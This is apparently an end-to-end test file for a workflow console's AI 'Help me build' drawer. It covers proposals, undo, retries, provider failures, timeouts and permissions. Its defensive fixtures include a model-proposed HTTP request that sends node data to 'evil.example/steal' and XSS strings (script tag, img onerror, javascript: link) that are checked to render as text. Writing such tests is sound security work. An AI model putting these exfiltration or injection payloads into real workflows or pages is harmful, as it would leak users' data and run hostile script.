/** "Help me build": a model that answers well, badly and hostilely, and what becomes of the draft. */
import type { Browser, Locator, Page, Response } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { colorFlawsOf, flawsOf, LAYERS } from '../../support/console/axe.ts';
import { startChromium, startSession, visit, type Visitor } from '../../support/console/chromium.ts';
import {
  EDITOR,
  READER,
  startConsoleSystem,
  type ConsoleSystem,
} from '../../support/console/consoleSystem.ts';
import { accountsOf, manifestOf, object } from '../../support/console/filledProject.ts';
import { edgeOf } from '../../support/console/canvasSteps.ts';
import {
  canvasOpened,
  nodeOf,
  openNode,
  openOutput,
  runEnded,
  testRun,
} from '../../support/console/steps.ts';
import { credentials, drafts, workflowRuns, workflows } from '../../../operator/shared/resources.ts';
import { startModelServer } from '../../support/providers/model/modelServer.ts';

const PROJECT = 'shop';
const NAME = 'orders';
const AT_REST = { timeout: 30_000 };

let system: ConsoleSystem;
let browser: Browser;
let visitor: Visitor;
let page: Page;

beforeAll(async () => {
  [system, browser] = await Promise.all([startConsoleSystem(), startChromium()]);
  await system.createProject(PROJECT);
  await system.apply(PROJECT, manifestOf(accountsOf(system)));
  const nodes = [{ id: 'trigger', manual: {} }];
  await system.apply(PROJECT, manifestOf([object('Workflow', NAME, { nodes })]));
  await system.harness.waitFor(PROJECT, NAME, { type: 'Valid', status: 'True' }, 90_000);
  visitor = await visit(browser);
  ({ page } = visitor);
  page.setDefaultTimeout(40_000);
  await startSession(visitor.context, system.consoleURL, await system.tokenWith(PROJECT, 'editor', EDITOR));
});
afterAll(async () => {
  await visitor?.close();
  await browser?.close();
  await system?.stop();
});
beforeEach(async () => {
  system.model.setFault(undefined);
  system.model.setAnswers();
  system.model.requests.length = 0;
  await opened(NAME);
});

/** Opens the editor of the workflow. */
async function opened(name: string): Promise<void> {
  await page.goto(new URL(`/console/p/${PROJECT}/workflows/${name}`, system.consoleURL).href);
  await canvasOpened(page, 'trigger');
}

const drawer = () => page.getByRole('dialog', { name: 'Help me build' });
const button = (name: string) => drawer().getByRole('button', { name, exact: true });

/** Opens the drawer and describes something to the model. */
async function describeTo(model: string, text: string, credential = 'model'): Promise<void> {
  await page.getByRole('button', { name: 'Help me build', exact: true }).click();
  // Also the first time, when the panel is loaded after the drawer has opened.
  await drawer().locator('textarea:focus').waitFor();
  await drawer().getByRole('textbox', { name: 'What should the workflow do?' }).fill(text);
  await chooseModel(drawer(), model, credential);
}

async function credentialNames(): Promise<(string | undefined)[]> {
  const { items } = await system.harness.client.list(credentials, { namespace: PROJECT });
  return items.map(({ metadata }) => metadata.name);
}

async function unfinishedRuns(): Promise<(string | undefined)[]> {
  const { items } = await system.harness.client.list(workflowRuns, { namespace: PROJECT });
  const isOver = (phase = '') => ['Succeeded', 'Failed', 'Cancelled'].includes(phase);
  return items.filter(({ status }) => !isOver(status?.phase)).map(({ metadata }) => metadata.name);
}

/** Chooses the credential of the fake and a model, unless they are chosen since the last time. */
async function chooseModel(place: Locator, model: string, name = 'model'): Promise<void> {
  const credential = place.getByRole('combobox', { name: 'Credential' });
  if ((await credential.inputValue()) !== name) {
    await credential.click();
    await page.getByRole('option', { name, exact: true }).click();
  }
  const field = place.getByLabel('Model', { exact: true });
  await field.fill(model);
  await field.blur();
}

/** All rules in light colors, and those of colors in dark ones, of what is open. */
async function expectNoFlaws(): Promise<void> {
  expect(await flawsOf(page)).toEqual([]);
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(() => colorFlawsOf(page, LAYERS), AT_REST).toEqual([]);
  await page.emulateMedia({ colorScheme: 'light' });
}

/** Whether the page, and the layer above it, fit the screen at this width. */
async function expectToFit(width: number): Promise<void> {
  const before = page.viewportSize();
  await page.setViewportSize({ width, height: 780 });
  const outside = `[...document.querySelectorAll('[role="dialog"] :is(button, input, textarea, [role="alert"], li)')]
    .filter((each) => each.checkVisibility())
    .filter((each) => each.getBoundingClientRect().right > innerWidth || each.getBoundingClientRect().left < 0)
    .map((each) => each.outerHTML.slice(0, 120))`;
  await expect.poll(() => page.evaluate(outside), AT_REST).toEqual([]);
  expect(await page.evaluate('document.scrollingElement.scrollWidth')).toBe(width);
  if (before) await page.setViewportSize(before);
}

const well = (more: object[] = []) =>
  JSON.stringify({
    nodes: [
      { id: 'trigger', manual: {} },
      { id: 'note', skill: { name: 'set', parameters: { values: { text: '"Hello"' } } } },
      ...more,
    ],
  });

const EVIL = 'https://evil.example/steal';
const ask = (url: string) => ({
  id: 'ask',
  skill: { name: 'http_request', parameters: { method: 'GET', url } },
});

test('a description becomes a proposal, whose acceptance can be undone; nothing is published', async () => {
  system.model.setAnswers(well([ask(`${EVIL}?d={{ $('note').text_content }}`)]));
  await describeTo('demo', 'Say hello');
  await drawer().getByText('Show what is sent').click();
  await drawer().getByRole('region', { name: 'What is sent' }).getByText('Say hello').waitFor();
  const topOf = async (shown: Locator) => (await shown.boundingBox())?.y;
  const tops = (names: Locator[]) => Promise.all(names.map(topOf));
  const fields = ['Credential', 'Model'];
  const [credential, model] = await tops(fields.map((name) => drawer().getByText(name, { exact: true })));
  expect(credential).toBe(model);
  const boxes = [
    drawer().getByRole('combobox', { name: 'Credential' }),
    drawer().getByLabel('Model', { exact: true }),
  ];
  const [first, second] = await tops(boxes);
  expect(first).toBe(second);
  await button('Propose').click();
  await drawer().getByText('Data goes to a new host: evil.example.').waitFor();
  await expectNoFlaws();
  await expectToFit(390);
  await button('Accept into the draft').click();
  await nodeOf(page, 'ask').waitFor();
  await page.getByRole('button', { name: 'Undo', exact: true }).first().click();
  await nodeOf(page, 'ask').waitFor({ state: 'detached' });
  // On a slow machine the draft was stored before it was undone.
  const stored = () => system.harness.client.find(drafts, { namespace: PROJECT, name: NAME });
  await expect.poll(stored, AT_REST).toBeUndefined();
  const { spec } = await system.harness.client.get(workflows, { namespace: PROJECT, name: NAME });
  expect(spec.nodes).toEqual([{ id: 'trigger', manual: {} }]);
});

test('problems go back to the model, twice at most, and those that remain are listed', async () => {
  const wrong = well([{ id: 'mail', skill: { name: 'send_email', credential: 'smtp-of-others', cc: 'x' } }]);
  system.model.setAnswers('Sure! What should it do?', wrong, wrong);
  await describeTo('demo', 'Send a mail');
  await button('Propose').click();
  const problems = drawer().getByRole('list', { name: 'Problems of the proposal' });
  await problems.getByText('Credential smtp-of-others does not exist in this project.').waitFor();
  await problems.getByText(/ has no field skill\.cc\.$/).waitFor();
  expect(await problems.getByText(/\bcc\b/).count()).toBe(1);
  await expectNoFlaws();
  expect(system.model.requests).toHaveLength(3);
  const last = JSON.stringify(system.model.requests.at(-1)?.body.messages);
  expect(last).toContain('Credential smtp-of-others does not exist in this project.');
  await button('Reject').click();
  await button('Propose').waitFor();
  await expect.poll(() => nodeOf(page, 'mail').count(), AT_REST).toBe(0);
});

test('hostile text of a proposal is shown as text', async () => {
  const id = 'note';
  const displayName = '<img src=x onerror="document.title=1">\u202Eevil';
  const nodes = [
    { id: 'trigger', manual: {} },
    { id, displayName, skill: { name: 'set', parameters: { values: {} } } },
  ];
  const answer = JSON.stringify({
    nodes,
    description: '[click](javascript:alert(1)) <script>document.title=1</script>',
  });
  system.model.setAnswers(answer, answer, answer);
  const title = await page.title();
  await describeTo('demo', 'Say hello');
  await button('Propose').click();
  await drawer().getByRole('textbox', { name: 'Proposal' }).getByText('<script>', { exact: false }).waitFor();
  expect(await drawer().locator('img:not(.cm-widgetBuffer), script, iframe').count()).toBe(0);
  expect(await page.title()).toBe(title);
  await button('Reject').click();
});

test.each([
  ['error-500', "The model's server failed"],
  ['rate-limit', 'The provider limits the rate of requests'],
  ['not-found', 'The provider refused the request'],
  ['garbage', 'The answer cannot be read'],
  ['endless-text', 'The answer is too long'],
  ['half-stream', 'The provider cannot be reached'],
])('a model that fails with %s changes nothing, and the reason is shown', async (model, title) => {
  await describeTo(model, 'Say hello');
  await button('Propose').click();
  await drawer().getByRole('alert').getByText(title).waitFor();
  expect(await nodeOf(page, 'note').count()).toBe(0);
});

test('a provider that refuses the key is told from one that cannot be reached', async () => {
  const strict = await startModelServer({ apiKey: 'another-key' });
  const openai = { baseURL: strict.baseURL, apiKeyRef: { name: 'accounts', key: 'model-api-key' } };
  await system.apply(PROJECT, manifestOf([object('Credential', 'refused', { openai })]));
  await expect.poll(() => credentialNames(), AT_REST).toContain('refused');
  await opened(NAME);
  await describeTo('demo', 'Say hello', 'refused');
  await button('Propose').click();
  await drawer().getByRole('alert').getByText('The provider refused the credential').waitFor();
  await expectNoFlaws();
  await expectToFit(390);
  await strict.close();
});

test('a model that does not answer within five minutes is given up, and its run is cancelled', async () => {
  const before = page;
  page = await visitor.context.newPage();
  page.setDefaultTimeout(40_000);
  await page.clock.install();
  await opened(NAME);
  await describeTo('hang', 'Say hello');
  await button('Propose').click();
  await expect.poll(() => system.model.requests.length, AT_REST).toBe(1);
  // The first ones may be those of waiting until the run is accepted, which has a time of its own.
  const isOfRun = (response: Response) => /\/runs\/[^/]+$/.test(new URL(response.url()).pathname);
  for (let seen = 0; seen < 3; seen += 1) await page.waitForResponse(isOfRun);
  await page.clock.fastForward(301_000);
  await drawer().getByRole('alert').getByText('The model did not answer in time').waitFor();
  await expect.poll(() => unfinishedRuns(), AT_REST).toEqual([]);
  await page.close();
  page = before;
});

test('an answer that never ends can be stopped', async () => {
  await describeTo('hang', 'Say hello');
  await button('Propose').click();
  await drawer().getByText('Waiting for the model…').waitFor();
  await expect.poll(() => system.model.requests.length, AT_REST).toBe(1);
  await button('Stop').click();
  await button('Propose').waitFor();
  expect(await drawer().getByRole('alert').count()).toBe(0);
});

test('an error is fixed by a proposal, for which outputs are sent only if that is chosen', async () => {
  const fail = { id: 'stop', fail: { reason: 'NoStock', message: '<b>No</b> stock' } };
  const count = { id: 'count', skill: { name: 'set', parameters: { values: { left: '"none" + "-left"' } } } };
  const nodes = [{ id: 'trigger', manual: {} }, count, fail];
  await system.apply(PROJECT, manifestOf([object('Workflow', 'broken', { nodes })]));
  await system.harness.waitFor(PROJECT, 'broken', { type: 'Valid', status: 'True' }, 90_000);
  await opened('broken');
  await testRun(page);
  await openNode(page, 'stop');
  await openOutput(page);
  await page.getByRole('button', { name: 'Fix this error' }).click();
  const text = drawer().getByRole('textbox', { name: 'What should the workflow do?' });
  await expect.poll(() => text.inputValue(), AT_REST).toContain('Fix this error of node stop.');
  expect(await text.inputValue()).toContain('<b>No</b> stock');
  expect(await drawer().locator('b').count()).toBe(0);
  await chooseModel(drawer(), 'demo');
  const lastRequest = () => JSON.stringify(system.model.requests.at(-1)?.body.messages);
  const parameters = { values: { text: '"Order more"' } };
  const fixed = JSON.stringify({
    nodes: [nodes[0], count, { id: 'stop', skill: { name: 'set', parameters } }],
  });
  system.model.setAnswers(fixed, fixed);
  await button('Propose').click();
  await button('Reject').click();
  expect(lastRequest()).not.toContain('none-left');
  await drawer().getByRole('checkbox', { name: 'Send the last outputs of the nodes' }).check();
  await button('Propose').click();
  await button('Accept into the draft').click();
  expect(lastRequest()).toContain('none-left');
  await drawer().waitFor({ state: 'hidden' });
  await testRun(page);
  await runEnded(page);
  await nodeOf(page, 'stop')
    .getByText(/succeeded/)
    .first()
    .waitFor({ state: 'attached' });
});

test('a condition in words becomes CEL that compiles, and is taken over on request', async () => {
  const set = { name: 'set', parameters: { values: { total: '7' } } };
  const nodes = [
    { id: 'trigger', manual: {} },
    { id: 'note', skill: set },
    { id: 'more', skill: set },
  ];
  const edges = [
    { from: 'trigger', to: 'note' },
    { from: 'note', to: 'more' },
  ];
  await system.apply(PROJECT, manifestOf([object('Workflow', 'branch', { nodes, edges })]));
  await system.harness.waitFor(PROJECT, 'branch', { type: 'Valid', status: 'True' }, 90_000);
  await opened('branch');
  await edgeOf(page, 'note', 'more').click({ force: true });
  await page.getByRole('button', { name: 'Ask a model for a condition' }).click();
  const dialog = page.getByRole('dialog', { name: 'Ask a model for a condition' });
  await dialog.getByRole('textbox', { name: 'When should this connection be taken?' }).fill('it is large');
  await chooseModel(dialog, 'demo');
  const when = 'nodes.note.data_content.total > 100.0';
  system.model.setAnswers('{"when": "Hello"}', JSON.stringify({ when }));
  await dialog.getByRole('button', { name: 'Propose' }).click();
  await dialog.getByRole('group', { name: 'Proposal' }).getByText(when).waitFor();
  expect(system.model.requests).toHaveLength(2);
  await expectNoFlaws();
  await dialog.getByRole('button', { name: 'Accept into the draft' }).click();
  await page.getByRole('complementary', { name: 'Connection' }).getByText(when).first().waitFor();
});

test('a new workflow begins with a description', async () => {
  await page.goto(new URL(`/console/p/${PROJECT}/workflows`, system.consoleURL).href);
  await page
    .getByRole('button', { name: /new workflow/i })
    .first()
    .click();
  const dialog = page.getByRole('dialog', { name: 'New workflow' });
  await dialog.getByRole('tab', { name: 'Describe' }).click();
  await dialog.getByLabel('Name', { exact: true }).fill('Stock check');
  await dialog.getByRole('textbox', { name: 'What should the workflow do?' }).fill('Check the stock');
  await expectNoFlaws();
  await dialog.getByRole('button', { name: 'Create and open' }).click();
  const text = drawer().getByRole('textbox', { name: 'What should the workflow do?' });
  await expect.poll(() => text.inputValue(), AT_REST).toBe('Check the stock');
  await chooseModel(drawer(), 'demo');
  system.model.setAnswers(well());
  await button('Propose').click();
  await button('Accept into the draft').click();
  await nodeOf(page, 'note').waitFor();
});

test('lists of runs say which of them are requests', async () => {
  await page.goto(new URL(`/console/p/${PROJECT}/runs`, system.consoleURL).href);
  const row = page.getByRole('row').filter({ hasText: 'Help me build' }).first();
  await row.waitFor();
  expect(await row.getByText('Test', { exact: true }).count()).toBe(0);
  await row.getByText(/^\w+, by editor \(service account\)$/).waitFor();
  // The name beside the mark is whole, also in a small window.
  const viewport = page.viewportSize();
  await page.setViewportSize({ width: 1_024, height: 768 });
  const name = row.locator('[data-column="Run"] [aria-hidden]');
  await expect.poll(() => name.evaluate((at) => at.scrollWidth - at.clientWidth)).toBe(0);
  if (viewport !== null) await page.setViewportSize(viewport);
});

test('who may not test drafts has no such button', async () => {
  const other = await visit(browser);
  await startSession(other.context, system.consoleURL, await system.tokenWith(PROJECT, 'reader', READER));
  await other.page.goto(new URL(`/console/p/${PROJECT}/workflows/${NAME}`, system.consoleURL).href);
  await nodeOf(other.page, 'trigger').waitFor();
  await other.page.getByRole('button', { name: 'Runs of this workflow' }).waitFor();
  expect(await other.page.getByRole('button', { name: 'Help me build' }).count()).toBe(0);
  await other.close();
});
